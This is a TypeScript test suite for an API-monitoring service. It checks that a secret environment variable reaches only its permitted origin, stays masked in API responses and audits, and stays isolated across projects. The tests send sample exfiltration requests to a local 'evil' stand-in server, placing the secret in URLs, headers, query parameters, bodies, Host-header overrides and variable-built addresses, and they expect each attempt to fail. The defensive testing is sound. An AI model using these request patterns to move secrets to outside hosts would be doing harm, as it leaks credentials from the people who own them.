import type { IncomingHttpHeaders } from 'node:http'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { addAccount, PASSWORD } from '../support/accounts.ts'
import type { Api } from '../support/api.ts'
import { eventually } from '../support/eventually.ts'
import { type Loopback, listenOnLoopback } from '../support/loopback.ts'
import { signIn } from '../support/person.ts'
import { startServer, type TestServer } from '../support/server.ts'

const SECRET = 'CANARY-environment-5f0a'
const MASK = '••••••'

type Seen = { url: string; headers: IncomingHttpHeaders; body: string }
type Target = Loopback & { seen: Seen[] }

const openTarget = async (): Promise<Target> => {
  const seen: Seen[] = []
  const loopback = await listenOnLoopback((request, response) => {
    let body = ''
    request.on('data', (part) => {
      body += part
    })
    request.on('end', () => {
      seen.push({ url: request.url ?? '', headers: request.headers, body })
      response.writeHead(200).end(`you sent ${JSON.stringify(request.headers)} ${request.url}`)
    })
  })
  return Object.assign(loopback, { seen })
}

let good: Target
let evil: Target
let running: TestServer
let editor: Api

beforeAll(async () => {
  good = await openTarget()
  evil = await openTarget()
  running = await startServer({
    agent: true,
    env: { SONDE_ALLOW_PRIVATE: `127.0.0.1:${good.port},127.0.0.1:${evil.port}` },
  })
  const { secret } = await running.api.post<{ secret: string }>('/api/2/api_keys/', {
    name: 'editor',
    access_level: 'EDITOR',
  })
  editor = running.api.as(secret)
  await eventually(async () =>
    (await running.api.get<{ agent_list: object[] }>('/api/2/agents/info')).agent_list.some(Boolean),
  )
  await running.api.post('/api/2/environment/staging/TOKEN', { value: SECRET, secret: true, origins: [good.url] })
})
afterAll(async () => {
  await running?.stop()
  good?.close()
  evil?.close()
})
beforeEach(() => {
  good.seen.length = 0
  evil.seen.length = 0
})

type Full = { result_category: string; exception?: string | null; variables?: { initial: Record<string, string> } }

const monitorOf = async (by: Api, request: object, workspace = 'staging'): Promise<string> =>
  (await by.post<{ id: string }>('/api/2/calls/', { meta: { name: 'reader', workspace }, request })).id

const runs = async (by: Api, id: string): Promise<Full> => {
  const { result_id } = await by.post<{ result_id: string }>(`/api/3/monitors/${id}/run`, {})
  return eventually(async () => {
    const result = await by.get<Full>(`/api/2/results/${result_id}/?mode=full`)
    return result.result_category !== 'QUEUED' && result
  })
}

const carriedOff = (): Seen[] => evil.seen.filter((one) => JSON.stringify(one).includes(SECRET))

test('a secret variable reaches its origin, and is shown nowhere', async () => {
  const id = await monitorOf(editor, {
    url: `${good.url}/{{TOKEN}}`,
    headers: [{ key: 'X-Key', value: 'k {{TOKEN}}' }],
  })
  const result = await runs(editor, id)
  expect(good.seen).toMatchObject([{ url: `/${SECRET}`, headers: { 'x-key': `k ${SECRET}` } }])
  expect(result.variables?.initial.TOKEN).toBe(MASK)
  for (const path of [
    '/api/2/environment/',
    '/api/2/environment/staging/TOKEN',
    '/api/2/results/',
    `/api/2/results/call/${id}/`,
    `/api/2/calls/${id}/variables/used`,
    '/api/2/audits/project/',
  ])
    expect([path, JSON.stringify((await editor.call('GET', path)).body)]).not.toEqual([
      path,
      expect.stringContaining(SECRET),
    ])
  expect(JSON.stringify(result)).not.toContain(SECRET)
})

test('no monitor sends it elsewhere: not in its address, a header, a body, its variables or a condition', async () => {
  for (const request of [
    { url: `${evil.url}/{{TOKEN}}` },
    { url: `${evil.url}/`, headers: [{ key: 'X-Key', value: '%%TOKEN%%' }] },
    { url: `${evil.url}/`, parameters: [{ key: 'q', value: '__TOKEN__' }] },
    { url: `${evil.url}/`, method: 'POST', body: '{{TOKEN}}' },
    {
      url: `${good.url}/`,
      headers: [
        { key: 'Host', value: `127.0.0.1:${evil.port}` },
        { key: 'X', value: '{{TOKEN}}' },
      ],
    },
    { url: '{{base}}/{{TOKEN}}', variables: [{ key: 'base', value: evil.url }] },
  ]) {
    const result = await runs(editor, await monitorOf(editor, request))
    expect([request, result.result_category]).toEqual([request, 'FAIL'])
    expect(result.exception).toContain(`TOKEN may only be sent to ${good.url}`)
  }
  const id = await monitorOf(editor, { url: `${evil.url}/` })
  await editor.post(`/api/2/calls/${id}/conditions/`, {
    meta: {},
    conditions: [{ source: 'text', condition: 'contains', val: '{{TOKEN}}' }],
  })
  expect((await runs(editor, id)).exception).toContain('TOKEN may only be sent to')
  expect(evil.seen).toEqual([])
})

test('a trial sends it to its origin only', async () => {
  const tries = async (url: string) => {
    const { id } = await editor.post<{ id: string }>('/api/3/monitors/run-draft', {
      request: { url: `${url}/{{TOKEN}}` },
      workspace: 'staging',
    })
    const trial = () => editor.get<{ state: string; outcome: object }>(`/api/3/monitors/run-draft/${id}`)
    return eventually(async () => {
      const read = await trial()
      return read.state === 'done' && JSON.stringify(read.outcome)
    })
  }
  expect(await tries(evil.url)).toContain('TOKEN may only be sent to')
  expect(await tries(good.url)).not.toContain(SECRET)
  expect(good.seen.map(({ url }) => url)).toEqual([`/${SECRET}`])
  expect(evil.seen).toEqual([])
})

test('whoever does not know it cannot let it be sent to further places, nor store it in clear', async () => {
  const set = (body: object) => editor.call('POST', '/api/2/environment/staging/TOKEN', body)
  for (const body of [
    { value: MASK, origins: [good.url, evil.url] },
    { value: MASK, origins: [evil.url] },
    { value: MASK, secret: false },
  ]) {
    const { status, body: answer } = await set(body)
    expect([body, status]).toEqual([body, 400])
    expect(JSON.stringify(answer)).toContain('value')
  }
  expect((await set({ value: MASK })).status).toBe(200)
  // With a value of their own, it is another secret.
  expect((await set({ value: 'own', origins: [evil.url] })).status).toBe(200)
  await runs(editor, await monitorOf(editor, { url: `${evil.url}/{{TOKEN}}` }))
  expect(evil.seen.map(({ url }) => url)).toEqual(['/own'])
  expect(carriedOff()).toEqual([])
  await running.api.post('/api/2/environment/staging/TOKEN', { value: SECRET, secret: true, origins: [good.url] })
})

test('a rename keeps the origins, also onto a name that monitors send elsewhere', async () => {
  const id = await monitorOf(editor, { url: `${evil.url}/{{PLAIN}}` })
  await editor.post('/api/2/environment/staging/TOKEN/rename', { name: 'PLAIN' })
  expect((await runs(editor, id)).exception).toContain('PLAIN may only be sent to')
  await editor.post('/api/2/environment/staging/PLAIN/rename', { name: 'TOKEN' })
  expect(carriedOff()).toEqual([])
})

test('another project has an environment of the same name, and none of its variables', async () => {
  const person = await signIn(running.server, (await addAccount(running, 'eve@example.com')).email, PASSWORD)
  const { id: project } = await person.api().post<{ id: string }>('/api/2/account/projects', { name: 'Own' })
  const eve = person.api(project)
  expect((await eve.get<{ results: object[] }>('/api/2/environment/')).results).toEqual([])
  for (const [method, path] of [
    ['GET', '/api/2/environment/staging/TOKEN'],
    ['DELETE', '/api/2/environment/staging/TOKEN'],
    ['POST', '/api/2/environment/staging/TOKEN/rename'],
    ['DELETE', '/api/3/environments/staging'],
    ['POST', '/api/3/environments/staging/rename'],
  ] as const)
    expect([path, (await eve.call(method, path, method === 'POST' ? { name: 'OTHER' } : undefined)).status]).toEqual([
      path,
      404,
    ])
  expect((await eve.call('POST', '/api/2/environment/staging/TOKEN', { value: MASK })).status).toBe(200)
  await runs(eve, await monitorOf(eve, { url: `${evil.url}/{{TOKEN}}` }))
  expect(carriedOff()).toEqual([])
})
